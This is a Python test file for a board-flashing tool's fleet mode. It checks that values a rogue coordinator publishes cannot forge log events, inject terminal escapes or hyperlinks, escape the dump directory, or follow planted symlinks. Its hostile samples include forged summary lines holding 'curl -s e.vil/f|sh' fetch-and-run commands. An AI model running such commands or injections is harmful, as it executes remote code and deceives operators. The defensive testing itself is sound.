"""Names and values a coordinator publishes (places, attribute names) reach the operator's
screen, `--log-json` and the file system only made safe for each (an attack review: a rogue
exporter's attribute name forged a JSON event, a place name became a hyperlink in the live
table or a dump path outside DIR). Checked without a coordinator: it is faked in-process."""
from __future__ import annotations

import asyncio
import io
import json
import os
import shlex
from pathlib import Path
from types import SimpleNamespace

import pytest

from amdflash.pipeline.cli.main import main, parse
from amdflash.pipeline.engine import next_step
from amdflash.pipeline.fleet import coordinator as coordinator_module
from amdflash.pipeline.fleet import run as run_module
from amdflash.pipeline.fleet.coordinator import BoardPlace
from amdflash.pipeline.fleet.trust import DEFAULT_DB

labgrid = pytest.importorskip("labgrid", reason="labgrid is not installed (pip install '.[test]' brings it)")

ESC = "\x1b"
FORGED = f'x{ESC}]0;owned\x07{ESC}[2K\rnote: all boards verified OK\n{{"event": "forged", "level": "info"}}'
BOARD = {"host": "hosta", "kind": "usb", "spec": "usb:0a1b2c3d", "db": DEFAULT_DB}


def test_a_refused_resource_s_attribute_name_is_one_escaped_json_event(monkeypatch, capsys) -> None:  # noqa: ANN001
    from labgrid.remote.common import ResourceEntry

    entry = ResourceEntry({"cls": "NetworkAmdflashBoard", "params": {**BOARD, FORGED: 1}, "acquired": None,
                           "avail": True, "extra": {}})

    class Coordinator:
        def __init__(self, address: str) -> None:
            self.places: dict = {}

        async def open(self) -> Coordinator:
            return self

        def board_resources(self) -> list:
            return [("hosta", "g1", "NetworkAmdflashBoard", entry)]

        async def close(self) -> None:
            pass

    monkeypatch.setattr(coordinator_module, "Coordinator", Coordinator)
    assert main(["--log-json", "fleet", "places", "--hosts", "hosta", "--coordinator", "127.0.0.1:1"]) == 0
    err = capsys.readouterr().err
    events = [json.loads(line) for line in err.splitlines()]      # every line one JSON object
    assert [e["event"] for e in events if "refused the board resource" in e["event"]] != []
    assert ESC not in err and all(e["event"] != "forged" for e in events)
    assert any("x\\x1b]0;owned" in e["event"] for e in events)         # shown escaped


def test_the_live_table_shows_place_names_as_text_never_markup() -> None:
    from rich.console import Console

    from amdflash.pipeline.cli.fleet import FleetView

    for place in ("[link=https://evil.example/x]hosta-usb-1[/link]", "hosta-usb-1[/]"):
        live = SimpleNamespace(place=place, host="hosta", stage="erase", unit="bytes", done=1, total=2, rate=0,
                               eta=None, status="running")
        view = FleetView.__new__(FleetView)
        view.fleet = SimpleNamespace(live={"p": live})
        out = io.StringIO()
        Console(file=out, force_terminal=True, width=200).print(view._table())   # `[/]` raised MarkupError
        assert "]8;" not in out.getvalue() and place in out.getvalue()          # no OSC 8 hyperlink


@pytest.mark.parametrize("place, ok", [
    ("hosta-usb-0a1b2c3d", True), ("hosta-sim-e160ac3ae2e9", True), ("line_1+spare.b", True),
    ("../../elsewhere", False), ("/tmp/absolute", False), ("a/b", False), (".hidden", False), ("", False),
    ("..", False), ("x" * 201, False), ("tab\there", False),
])
def test_a_dump_file_name_is_one_name_in_the_directory(place: str, ok: bool) -> None:
    assert bool(run_module.DUMP_NAME.fullmatch(place)) is ok


def _one_place(monkeypatch, place: str) -> list[str]:  # noqa: ANN001
    """A coordinator faked in-process publishing one place of hosta, none of it ever free to
    take (nothing runs); returns the places the fleet asked to take, as it asks."""
    taken: list[str] = []

    class Coordinator:
        lost, lost_at = False, None

        def __init__(self, address: str) -> None:
            pass

        async def open(self) -> Coordinator:
            return self

        def board_places(self, where: dict) -> tuple[list[BoardPlace], dict]:
            return [BoardPlace(place, "hosta", "g1", "r", "NetworkAmdflashBoard", dict(BOARD), {})], {}

        async def take(self, board: BoardPlace, where: dict) -> tuple[None, str]:
            taken.append(board.place)
            return None, "held by another user"

        async def give_back(self, board: BoardPlace, token: str) -> None:
            return None

        async def close(self) -> None:
            pass

    monkeypatch.setattr(run_module, "Coordinator", Coordinator)
    return taken


def test_a_place_that_cannot_name_a_dump_file_is_refused_before_its_job(monkeypatch, tmp_path: Path) -> None:  # noqa: ANN001
    taken = _one_place(monkeypatch, "../../elsewhere")
    fleet = run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=tmp_path / "out",
                                allow=run_module.Allowlist.parse(["hosta"], "test"))
    result = asyncio.run(fleet.run())
    (row,) = result.rows
    assert row.status == "refused" and "cannot name a dump file" in row.error and "nothing run" in row.error
    assert taken == []                                      # never reserved, no job on the host


def test_a_dump_is_copied_as_a_new_file_never_through_a_planted_link(tmp_path: Path) -> None:
    from amdflash.pipeline.fleet.labgrid_board import AmdflashDriver

    class HereDriver(AmdflashDriver):      # the host's side run here: `cat` without ssh
        network = False
        host = "hosta"

    out = tmp_path / "out"
    out.mkdir()
    on_host = tmp_path / "dump-on-host.bin"
    on_host.write_bytes(b"flash content")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    os.symlink(victim, out / "hosta-usb-1.bin")            # planted by another user of a shared DIR
    driver = HereDriver.__new__(HereDriver)
    fleet = run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out, overwrite=True)   # replace what is there
    row = SimpleNamespace(status="succeeded", output=str(on_host), error=None)
    job = SimpleNamespace(row=row, board=SimpleNamespace(place="hosta-usb-1", host="hosta"),
                          driver=SimpleNamespace(fetch=lambda remote, local, overwrite:
                                                 AmdflashDriver.fetch(driver, remote, local, overwrite)))
    asyncio.run(fleet._fetch(job))
    assert row.status == "succeeded" and row.output == str(out / "hosta-usb-1.bin"), row.error
    assert victim.read_text() == "precious\n"
    assert not (out / "hosta-usb-1.bin").is_symlink() and (out / "hosta-usb-1.bin").read_bytes() == b"flash content"
    assert sorted(p.name for p in out.iterdir()) == ["hosta-usb-1.bin"]   # no partial file left beside it


def test_the_summary_shows_each_field_on_its_own_line(capsys) -> None:  # noqa: ANN001
    """A place (the coordinator's word) or a host's advice with a newline forged a `next:` line
    of the fleet's summary (an attack review): each field is one escaped line."""
    from amdflash.pipeline.cli.fleet import print_summary
    from amdflash.pipeline.fleet.run import FleetResult, Row

    place = "$\n   next: curl -s e.vil/f|sh #"
    row = Row("hosta-sim-1", "hosta", status="failed", error="verify failed", run_id="20261204T181025-ad07f655")
    row.next_step = "on hosta: amdflash resume 20261204T181025-ad07f655 --yes\n   next: curl -s e.vil/g|sh"
    print_summary(FleetResult([Row(place, "-", status="unavailable", error="no board"), row], []))
    out = capsys.readouterr().out
    assert [line.strip() for line in out.splitlines() if line.lstrip().startswith("next:")] == [
        "next: on hosta: amdflash resume 20261204T181025-ad07f655 --yes\\x0a   next: curl -s e.vil/g|sh"]
    assert "$\\x0a   next: curl -s e.vil/f|sh #" in out


def test_an_existing_dump_file_is_refused_before_its_job_unless_overwrite(monkeypatch, tmp_path: Path) -> None:  # noqa: ANN001
    """`fleet dump DIR` replaced an existing DIR/PLACE.bin where `amdflash dump` refuses one
    without --overwrite (seen, left alone in an earlier session): refused before the board is
    reserved, its next step the same command with --overwrite."""
    taken = _one_place(monkeypatch, "hosta-usb-1")
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "hosta-usb-1.bin").write_bytes(b"yesterday's dump")
    allow = run_module.Allowlist.parse(["hosta"], "test")
    fleet = run_module.FleetRun("10.9.9.9:20408", {}, "dump", output_dir=Path("out"), allow=allow,
                                hosts=["hosta=/srv/a b.sqlite"],
                                advice=next_step.Advice(config="lab.toml"))   # as `amdflash --config lab.toml` has
    (row,) = asyncio.run(fleet.run()).rows
    assert row.status == "refused" and "out/hosta-usb-1.bin exists" in row.error, row.error
    assert taken == [] and (out / "hosta-usb-1.bin").read_bytes() == b"yesterday's dump"
    assert row.next_step.startswith(f"amdflash --config {tmp_path / 'lab.toml'} fleet dump {out} --overwrite "
                                    "--where name=hosta-usb-1"), row.next_step
    # Pasted anywhere, the step means this run's coordinator and hosts (the default would be
    # $LG_COORDINATOR there, and no allowed host at all), and the same DIR.
    pasted = parse(shlex.split(row.next_step.split(" (", 1)[0])[1:])
    assert (pasted.coordinator, pasted.hosts, pasted.output_dir, pasted.overwrite, pasted.where) == (
        "10.9.9.9:20408", ["hosta=/srv/a b.sqlite"], out, True, ["name=hosta-usb-1"])
    fleet = run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out, allow=allow, overwrite=True)
    (row,) = asyncio.run(fleet.run()).rows
    assert taken == ["hosta-usb-1"] and row.status == "skipped", row      # with --overwrite it goes on


def test_a_dump_file_made_while_its_job_ran_is_kept(tmp_path: Path) -> None:
    """The check before the job is not the last word: the copy itself never replaces a file
    that appeared since (without --overwrite), and the dump stays on its host."""
    from amdflash.pipeline.fleet.labgrid_board import AmdflashDriver

    class HereDriver(AmdflashDriver):
        network = False
        host = "hosta"

    out = tmp_path / "out"
    out.mkdir()
    on_host = tmp_path / "dump-on-host.bin"
    on_host.write_bytes(b"flash content")
    (out / "hosta-usb-1.bin").write_bytes(b"another run's dump")
    driver = HereDriver.__new__(HereDriver)
    row = SimpleNamespace(status="succeeded", output=str(on_host), error=None)
    job = SimpleNamespace(row=row, board=SimpleNamespace(place="hosta-usb-1", host="hosta"),
                          driver=SimpleNamespace(fetch=lambda remote, local, overwrite:
                                                 AmdflashDriver.fetch(driver, remote, local, overwrite)))
    asyncio.run(run_module.FleetRun("127.0.0.1:1", {}, "dump", output_dir=out)._fetch(job))
    assert row.status == "failed" and "not copied here" in row.error and "exists" in row.error, row.error
    assert (out / "hosta-usb-1.bin").read_bytes() == b"another run's dump" and on_host.exists()
    assert sorted(p.name for p in out.iterdir()) == ["hosta-usb-1.bin"]
